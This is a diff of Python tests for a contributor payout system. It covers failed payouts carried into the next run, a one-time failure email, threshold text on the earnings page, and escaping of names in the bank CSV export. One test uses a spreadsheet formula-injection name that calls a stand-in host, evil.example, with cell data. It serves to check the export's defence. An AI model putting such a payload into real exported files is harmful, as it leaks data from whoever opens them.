@@ -3,7 +3,7 @@
 import csv
 import io
 import json
-from datetime import timedelta
+from datetime import UTC, datetime, timedelta
 from fractions import Fraction
 from xml.etree import ElementTree
 
@@ -17,6 +17,7 @@ from hazardmap.core.selling.pricing.money import Currency
 from hazardmap.core.selling.statement import faults
 from hazardmap.platform.ids import new_id
 from hazardmap.rewards.models import Entry
+from hazardmap.rewards.payout_files import payout_csv
 from hazardmap.rewards.payout_models import Payout, PayoutRun, PayoutTarget
 from hazardmap.rewards.selectors import balances, earned, earnings, statement_document
 from hazardmap.rewards.services import (
@@ -100,13 +101,20 @@ def test_settled_earnings_above_the_threshold_are_paid_in_whole_cents():
     assert (now.paid_micro, now.paying_micro) == (15 * MICRO, 0)
 
 
-def test_a_payout_that_failed_is_the_contributors_again():
+def test_a_payout_that_failed_is_the_contributors_again_and_in_the_next_run(monkeypatch):
     user = driver()
-    share(9 * MICRO, user)
-    (payout,) = prepared()
+    settled = timezone.now() - timedelta(days=15)
+    with monkeypatch.context() as back_then:
+        back_then.setattr(Entry._meta.get_field("at"), "_get_default", lambda: settled)
+        share(9 * MICRO, user)
+    PayoutTarget.objects.update(set_at=settled)
+    (payout,) = prepared(now=timezone.now())
     payout_end(payout_id=payout.pk, paid=False)
-    assert earned(user.witness, EUR) == 9 * MICRO
-    (again,) = prepared(now=later(40))
+    share(7 * MICRO, user)
+    assert earned(user.witness, EUR) == 16 * MICRO
+    (now,) = earnings(user.witness, timezone.now())
+    assert now.payable_micro == 9 * MICRO, "what has come since is not settled"
+    (again,) = prepared(now=timezone.now())
     assert again.amount_micro == 9 * MICRO
     assert balanced()
     assert right(user)
@@ -211,6 +219,44 @@ def test_the_owner_is_told_and_nothing_is_paid_to_a_new_account_for_three_days(
     with pytest.raises(PayoutRefused, match="nobody to pay"):
         prepared(now=later(15))
     assert len(prepared(now=later(16))) == 1
+
+
+def test_of_a_payout_that_failed_the_contributor_is_told_once(
+    mailoutbox, django_capture_on_commit_callbacks
+):
+    user = driver()
+    share(9_500_000, user)
+    user.language = "de"
+    user.save()
+    (payout,) = prepared()
+    for _ in range(2):
+        with django_capture_on_commit_callbacks(execute=True):
+            payout_end(payout_id=payout.pk, paid=False)
+    (told,) = mailoutbox
+    assert told.to == [user.email]
+    assert "9,50 EUR" in told.body
+    assert "3000" in told.body
+    assert IBAN not in told.body
+
+
+def test_the_page_says_from_which_amount_on_money_is_paid_and_when_it_was(client):
+    user = driver()
+    client.force_login(user)
+    page = client.get("/account/earnings/").content.decode()
+    assert "14 days after it was divided" in page
+    assert "paid from 20.00 EUR on" in page
+    share(9 * MICRO, user)
+    prepared(now=datetime(2027, 3, 2, 9, tzinfo=UTC))
+    page = client.get("/account/earnings/").content.decode()
+    assert "paid from 5.00 EUR on" in page
+    assert "last on 2 March 2027" in page
+
+
+def test_a_name_is_no_formula_in_the_file_for_the_bank():
+    share(9 * MICRO, driver('=HYPERLINK("http://evil.example/?"&C3,"Ben")'))
+    prepared()
+    (row,) = csv.DictReader(io.StringIO(payout_csv(PayoutRun.objects.get().pk), newline=""))
+    assert row["name"].startswith("'=HYPERLINK(")
 
 
 @pytest.mark.django_db(transaction=True)
